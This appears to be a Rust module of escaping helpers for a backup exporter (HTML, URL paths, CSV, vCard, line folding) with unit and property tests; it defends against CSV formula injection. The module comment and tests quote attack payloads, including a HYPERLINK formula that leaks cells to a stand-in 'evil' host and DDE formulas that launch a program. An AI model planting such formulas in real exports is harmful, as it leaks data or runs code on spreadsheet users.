//! Escaping for the output formats: HTML, CSV, vCard (RFC 6350 / 2426) values and line folding.
//!
//! # CSV formula injection
//!
//! Every CSV we write goes through [`csv_field`], which first applies [`neutralise_formula`].
//! A backup holds text written by *other people* (a message body, a contact name, a page
//! title, a Wi-Fi name …). When the exported CSV is opened in a spreadsheet (Excel,
//! LibreOffice Calc, Google Sheets), a cell that starts with `=`, `+`, `-` or `@` is evaluated
//! as a formula: `=HYPERLINK("http://evil/?"&A1,"click")` leaks neighbouring cells,
//! `=cmd|' /C calc'!A0` (DDE) runs a program. This is OWASP's "CSV Injection"
//! (<https://owasp.org/www-community/attacks/CSV_Injection>).
//!
//! The rule, following OWASP's advice: a field whose first character is `=`, `@`, a tab
//! (U+0009) or a carriage return (U+000D) gets a leading `'`, which spreadsheets treat as
//! "this cell is text" and do not display. A field starting with `+` or `-` gets it too,
//! *unless* the whole field is a plain number (`-3.5`, `+42`, `1e-3`) or a phone number
//! (`+1 (555) 010-2000`): those are common, legitimate values in our exports (durations,
//! coordinates, call-history numbers), they cannot call a function (no letters, no `|`, `!`
//! or quotes), and prefixing them would corrupt the data for everyone else reading the CSV.
//! The `'` is then part of the field value for non-spreadsheet readers; that is the accepted
//! trade-off (readers of the raw CSV see exactly which cells were neutralised).

use std::fmt::Write as _;

/// HTML text and attribute escaping (`& < > " '`).
pub(crate) fn html(s: &str) -> String {
    let mut o = String::with_capacity(s.len() + 8);
    for c in s.chars() {
        match c {
            '&' => o.push_str("&amp;"),
            '<' => o.push_str("&lt;"),
            '>' => o.push_str("&gt;"),
            '"' => o.push_str("&quot;"),
            '\'' => o.push_str("&#39;"),
            c => o.push(c),
        }
    }
    o
}

/// Percent-encodes a relative URL path (keeps `A-Z a-z 0-9 - . _ ~ /`).
pub(crate) fn url_path(s: &str) -> String {
    let mut o = String::with_capacity(s.len());
    for b in s.bytes() {
        if b.is_ascii_alphanumeric() || b"-._~/".contains(&b) {
            o.push(char::from(b));
        } else {
            let _ = write!(o, "%{b:02X}");
        }
    }
    o
}

/// One CSV field (RFC 4180): neutralised against formula injection ([`neutralise_formula`]),
/// then quoted when it holds a comma, quote, CR or LF.
pub(crate) fn csv_field(s: &str) -> String {
    let s = neutralise_formula(s);
    if s.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s.into_owned()
    }
}

/// The one shared CSV formula-injection neutraliser (rule and reason in the module doc):
/// returns the field with a leading `'` when a spreadsheet would evaluate it as a formula,
/// unchanged (borrowed) otherwise. Every CSV writer must use it, directly or through
/// [`csv_field`] / [`csv_row`], because the values come from other people's data.
pub(crate) fn neutralise_formula(s: &str) -> std::borrow::Cow<'_, str> {
    let risky = match s.chars().next() {
        Some('=' | '@' | '\t' | '\r') => true,
        Some('+' | '-') => !(is_plain_number(s) || is_phone_number(s)),
        _ => false,
    };
    if risky {
        std::borrow::Cow::Owned(format!("'{s}"))
    } else {
        std::borrow::Cow::Borrowed(s)
    }
}

/// `[+-]digits[.digits][e[+-]digits]` (at least one digit in the mantissa): a value a
/// spreadsheet reads as a number, never as a function call.
fn is_plain_number(s: &str) -> bool {
    let b = s.as_bytes();
    let mut i = 0;
    if matches!(b.first(), Some(b'+' | b'-')) {
        i = 1;
    }
    let digits = |i: &mut usize| {
        let start = *i;
        while b.get(*i).is_some_and(u8::is_ascii_digit) {
            *i += 1;
        }
        *i - start
    };
    let mut mantissa = digits(&mut i);
    if b.get(i) == Some(&b'.') {
        i += 1;
        mantissa += digits(&mut i);
    }
    if mantissa == 0 {
        return false;
    }
    if matches!(b.get(i), Some(b'e' | b'E')) {
        i += 1;
        if matches!(b.get(i), Some(b'+' | b'-')) {
            i += 1;
        }
        if digits(&mut i) == 0 {
            return false;
        }
    }
    i == b.len()
}

/// A phone number as people write it: a leading `+`, then only digits, spaces, `(`, `)`,
/// `-` and `.`, with at least one digit (`+1 (555) 010-2000`, `+44 20 7946 0958`).
fn is_phone_number(s: &str) -> bool {
    let Some(rest) = s.strip_prefix('+') else {
        return false;
    };
    rest.bytes().any(|b| b.is_ascii_digit())
        && rest
            .bytes()
            .all(|b| b.is_ascii_digit() || b" ()-.".contains(&b))
}

/// A CSV record (fields joined, CRLF-terminated as RFC 4180 says).
pub(crate) fn csv_row<S: AsRef<str>>(fields: &[S]) -> String {
    let mut o = fields
        .iter()
        .map(|f| csv_field(f.as_ref()))
        .collect::<Vec<_>>()
        .join(",");
    o.push_str("\r\n");
    o
}

/// A vCard/iCalendar text value: `\` `,` `;` escaped, newlines as `\n`.
pub(crate) fn vtext(s: &str) -> String {
    let mut o = String::with_capacity(s.len());
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\\' => o.push_str("\\\\"),
            ',' => o.push_str("\\,"),
            ';' => o.push_str("\\;"),
            '\r' => {
                if chars.peek() == Some(&'\n') {
                    chars.next();
                }
                o.push_str("\\n");
            }
            '\n' => o.push_str("\\n"),
            c if c.is_control() => {}
            c => o.push(c),
        }
    }
    o
}

/// Folds a content line at 75 octets (never inside a UTF-8 character), CRLF + space
/// continuation, and terminates it with CRLF.
pub(crate) fn fold(line: &str) -> String {
    let mut o = String::with_capacity(line.len() + line.len() / 70 * 3 + 2);
    let mut width = 0;
    for c in line.chars() {
        let n = c.len_utf8();
        if width + n > 75 {
            o.push_str("\r\n ");
            width = 1;
        }
        o.push(c);
        width += n;
    }
    o.push_str("\r\n");
    o
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn escapes() {
        assert_eq!(
            html("<a href=\"x\">&'"),
            "&lt;a href=&quot;x&quot;&gt;&amp;&#39;"
        );
        assert_eq!(url_path("a b/c#?.jpg"), "a%20b/c%23%3F.jpg");
        assert_eq!(csv_field("a,\"b\"\n"), "\"a,\"\"b\"\"\n\"");
        assert_eq!(csv_row(&["a", "b"]), "a,b\r\n");
        assert_eq!(vtext("a;b,c\\d\r\ne"), "a\\;b\\,c\\\\d\\ne");
    }

    #[test]
    fn formulas_are_neutralised() {
        for bad in [
            "=1+1",
            "=HYPERLINK(\"http://x\",\"y\")",
            "@SUM(A1)",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "\t=1",
            "\r=1",
            "+",
            "-",
            "-1+1e",
            "+1 (555) abc",
            "-1 (555) 010-2000",
            "+1e",
            "+.",
        ] {
            assert_eq!(neutralise_formula(bad), format!("'{bad}"), "{bad:?}");
        }
        for ok in [
            "",
            "hello",
            "-3.5",
            "+42",
            "-.5",
            "1e-3",
            "-1E+9",
            "+1 (555) 010-2000",
            "+44 20 7946 0958",
            "a=b",
            " =1",
            "'=1",
        ] {
            assert_eq!(neutralise_formula(ok), ok, "{ok:?}");
        }
        // Through the CSV writer: neutralised first, then quoted.
        assert_eq!(csv_field("=1,2"), "\"'=1,2\"");
        assert_eq!(csv_field("@\"x\""), "\"'@\"\"x\"\"\"");
        assert_eq!(
            csv_row(&["=A1", "-3.5", "+1 (555) 010-2000"]),
            "'=A1,-3.5,+1 (555) 010-2000\r\n"
        );
    }

    proptest! {
        /// Whatever the text, the CSV field never starts with a character a spreadsheet
        /// would read as a formula, except a plain number or phone number.
        #[test]
        fn no_field_starts_a_formula(s in "[-+=@\t\r\"a-z0-9 ().,]{0,12}\\PC{0,20}") {
            let f = csv_field(&s);
            let cell = f.strip_prefix('"').unwrap_or(&f);
            match cell.chars().next() {
                Some('=' | '@' | '\t' | '\r') => prop_assert!(false, "{s:?} -> {f:?}"),
                Some('+' | '-') => prop_assert!(
                    is_plain_number(&s) || is_phone_number(&s),
                    "{s:?} -> {f:?}"
                ),
                _ => {}
            }
        }

        /// Neutralising only ever prepends one `'`: the value is otherwise untouched.
        #[test]
        fn neutralising_only_prefixes(s in "\\PC{0,40}") {
            let n = neutralise_formula(&s);
            prop_assert!(n == s || n.strip_prefix('\'') == Some(s.as_str()));
        }

        /// Plain numbers are kept as they are (the exports hold many).
        #[test]
        fn numbers_are_kept(x in proptest::num::f64::NORMAL | proptest::num::f64::ZERO, n in any::<i64>()) {
            let xs = x.to_string();
            prop_assert_eq!(neutralise_formula(&xs), xs.as_str());
            let ns = n.to_string();
            prop_assert_eq!(neutralise_formula(&ns), ns.as_str());
        }
    }

    proptest! {
        #[test]
        fn folding_keeps_content(s in "\\PC{0,300}") {
            let f = fold(&s);
            prop_assert!(f.ends_with("\r\n"));
            for l in f.trim_end_matches("\r\n").split("\r\n") {
                prop_assert!(l.len() <= 75);
            }
            let unfolded = f.trim_end_matches("\r\n").replace("\r\n ", "");
            prop_assert_eq!(unfolded, s);
        }
    }
}
